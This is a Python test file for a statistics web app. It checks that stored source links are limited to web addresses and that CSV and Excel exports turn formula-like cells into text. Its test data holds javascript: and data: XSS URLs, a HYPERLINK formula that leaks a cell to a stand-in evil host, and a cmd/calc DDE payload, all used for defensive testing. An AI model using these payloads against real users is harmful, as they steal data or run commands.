"""Sources link only to web pages, and exports never carry a live spreadsheet formula.

A figure's ``source_url`` becomes a link on the pages: only http(s) addresses are stored, and
the pages link to nothing else even if a stored row says otherwise.  A ``source_title`` such as
``=HYPERLINK(…)`` is exported as text in CSV and Excel, by the one rule of present/cells.py.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from fastapi.testclient import TestClient
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import update

from wenzeng.auth.principal import SYSTEM
from wenzeng.cli import run
from wenzeng.definitions.catalogue import builtin_plan_files, read_plan
from wenzeng.domain.links import is_web_url, safe_href
from wenzeng.errors import ValidationFailed
from wenzeng.ingest.pipeline import ColumnMapping
from wenzeng.present.cells import spreadsheet_safe
from wenzeng.services import accounts
from wenzeng.services.context import Context
from wenzeng.services.importing import import_file
from wenzeng.services.loading import read_builtin
from wenzeng.store.tables import source
from wenzeng.web.app import create_app
from wenzeng.web.twins import csv_bytes, xlsx_bytes

ATTACK = "javascript:alert(document.domain)"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
HEADER = "indicator,region,period,period_type,measure,value,unit,source_title,source_url"


# -- links --------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "url",
    [
        ATTACK,
        "JavaScript:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "//evil.example/x",
        "/relative/path",
        "https://",
        "http:///no-host",
        "https://example.org/a b",
    ],
)
def test_only_web_addresses_are_web_addresses(url: str) -> None:
    assert not is_web_url(url)


def test_safe_href_keeps_web_addresses_and_own_paths() -> None:
    assert safe_href("https://www.miit.gov.cn/a.html?x=1") == "https://www.miit.gov.cn/a.html?x=1"
    assert safe_href("HTTP://EXAMPLE.ORG") == "HTTP://EXAMPLE.ORG"
    assert safe_href("/regions/510000") == "/regions/510000"
    for bad in (ATTACK, "//evil.example", "/\\evil.example", None, 3, "mailto:a@b.c"):
        assert safe_href(bad) == ""


def test_an_import_refuses_links_that_are_not_web_addresses(ctx: Context, tmp_path: Path) -> None:
    path = tmp_path / "links.csv"
    path.write_text(
        f"{HEADER}\n"
        f"revenue_elec,CN,2030-01,month,level,1,亿元,甲,{ATTACK}\n"
        'revenue_elec,CN,2030-02,month,level,1,亿元,乙,"data:text/html,<script>x</script>"\n'
        "revenue_elec,CN,2030-03,month,level,1,亿元,丙,https://example.org/ok\n",
        encoding="utf-8",
    )
    with pytest.raises(ValidationFailed, match="nothing was written") as info:
        import_file(ctx, path, ColumnMapping())
    bad = [(i.loc.row, i.loc.column, i.code.value) for i in info.value.issues]
    assert bad == [(2, "source_url", "bad_link"), (3, "source_url", "bad_link")]
    assert "http:// or https://" in info.value.issues[0].msg_en


def test_every_built_in_source_link_is_a_web_address(sqlite_ctx: Context) -> None:
    links = read_builtin(sqlite_ctx)["source_url"].drop_nulls().unique().to_list()
    assert links and all(is_web_url(u) for u in links)


def test_a_plan_file_source_link_must_be_a_web_address(tmp_path: Path) -> None:
    text = builtin_plan_files()[0].read_text(encoding="utf-8")
    assert "  url: null" in text
    path = tmp_path / "plan.yaml"
    path.write_text(text.replace("  url: null", f'  url: "{ATTACK}"'), encoding="utf-8")
    with pytest.raises(ValidationFailed) as info:
        read_plan(path)
    assert any("http:// or https://" in i.msg for i in info.value.issues)


@pytest.fixture
def stored(ctx: Context, tmp_path: Path) -> Iterator[TestClient]:
    """A figure with a formula for its source title, and (as if stored before links were
    checked) a javascript: address for its source link.  A loss: a negative figure that
    looks like a formula to a spreadsheet, and can be one."""
    path = tmp_path / "hostile.csv"
    path.write_text(
        f"{HEADER}\n"
        f'profit_elec,CN,2030-01,month,level,-12.5,亿元,"{FORMULA.replace(chr(34), chr(34) * 2)}",'
        "https://example.org/a\n",
        encoding="utf-8",
    )
    import_file(ctx, path, ColumnMapping())
    with ctx.transaction() as conn:
        conn.execute(update(source).where(source.c.title == FORMULA).values(url=ATTACK))
    ctx.invalidate()
    accounts.add_user(ctx, SYSTEM, username="ana", role="analyst")  # sees imported figures
    token = accounts.create_token(ctx, SYSTEM, "ana", "tests")
    with TestClient(create_app(ctx.settings, ctx)) as client:
        client.headers["Authorization"] = f"Bearer {token}"
        yield client


EXPLORER = "/explorer?indicator=profit_elec&measure=level&period_type=month&from=2030-01"


def test_the_pages_never_link_to_a_script(stored: TestClient) -> None:
    page = stored.get(EXPLORER)
    assert page.status_code == 200
    assert "HYPERLINK" in page.text  # the row is shown …
    hrefs = re.findall(r'href="([^"]*)"', page.text)
    assert hrefs and not [h for h in hrefs if "javascript" in h.lower()]  # … but not as a link


def test_exports_keep_formulas_as_text(stored: TestClient) -> None:
    text = stored.get(EXPLORER.replace("/explorer", "/explorer.csv")).content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    (row,) = [r for r in rows if "HYPERLINK" in r["来源 Source"]]
    assert row["来源 Source"] == "'" + FORMULA
    assert row["数值 Value"] == "-12.5"  # a number stays a number
    book = openpyxl.load_workbook(
        io.BytesIO(stored.get(EXPLORER.replace("/explorer", "/explorer.xlsx")).content)
    )
    cells = [c for r in book.active.iter_rows() for c in r]
    formula_cells = [c for c in cells if c.data_type == "f"]
    assert formula_cells == []
    (title,) = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert title.value == "'" + FORMULA
    assert -12.5 in [c.value for c in cells]


def test_the_cli_csv_keeps_formulas_as_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("WENZENG_DATABASE_URL", f"sqlite:///{tmp_path / 'cli.db'}")
    assert run(["init"]) == 0
    path = tmp_path / "hostile.csv"
    path.write_text(
        f"{HEADER}\nrevenue_elec,CN,2030-01,month,level,1,亿元,\"@SUM(1+1)*cmd|' /C calc'!A0\",\n",
        encoding="utf-8",
    )
    assert run(["import", str(path)]) == 0
    capsys.readouterr()
    code = run(["data", "show", "revenue_elec", "--period", "2030-01", "--format", "csv"])
    out = capsys.readouterr().out
    assert code == 0, out
    rows = list(csv.reader(io.StringIO(out)))
    assert any(cell.startswith("'@SUM") for r in rows for cell in r)
    assert not any(cell.startswith("@") for r in rows for cell in r)


# -- the rule, as a property ---------------------------------------------------------------------
def _looks_like_formula(text: str) -> bool:
    for ch in text:
        folded = unicodedata.normalize("NFKC", ch)
        if ch in "=+-@\t\r" or (folded and folded[0] in "=+-@\t\r"):
            return True
        if not (ch.isspace() or folded.isspace()):
            return False
    return False


CELLS = st.one_of(
    st.none(),
    st.integers(-(10**12), 10**12),
    st.floats(min_value=-1e14, max_value=1e14),  # figures are below 10^15 in size
    st.text(max_size=12),
    st.sampled_from(
        ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "＝1", "＋1", "－1", "＠A1", " =1"]
    ),
)


@settings(deadline=None, max_examples=60)
@given(st.lists(st.tuples(CELLS, CELLS), max_size=5))
def test_no_exported_text_cell_starts_like_a_formula(pairs: list[tuple[Any, Any]]) -> None:
    columns = [("a", "A"), ("b", "B")]
    rows = [{"a": a, "b": b} for a, b in pairs]
    for value in (v for r in rows for v in r.values()):
        safe = spreadsheet_safe(value)
        if isinstance(value, str):
            assert not _looks_like_formula(safe) and safe in (value, "'" + value)
        else:
            assert safe == value  # numbers and empty cells unchanged
    text = csv_bytes(columns, rows).decode("utf-8-sig")
    records = list(csv.reader(io.StringIO(text, newline="")))[1:]
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(columns, rows, "t")))
    sheet = book.active
    for i, (a, b) in enumerate(pairs):
        for j, value in enumerate((a, b)):
            written = records[i][j]
            kept = sheet.cell(i + 2, j + 1)
            if isinstance(value, str):
                assert not _looks_like_formula(written)
                assert kept.data_type != "f"
                assert not (isinstance(kept.value, str) and _looks_like_formula(kept.value))
            elif value is not None:
                assert written == str(value)  # a number, as a number is written
                assert kept.value == pytest.approx(value, rel=1e-14)
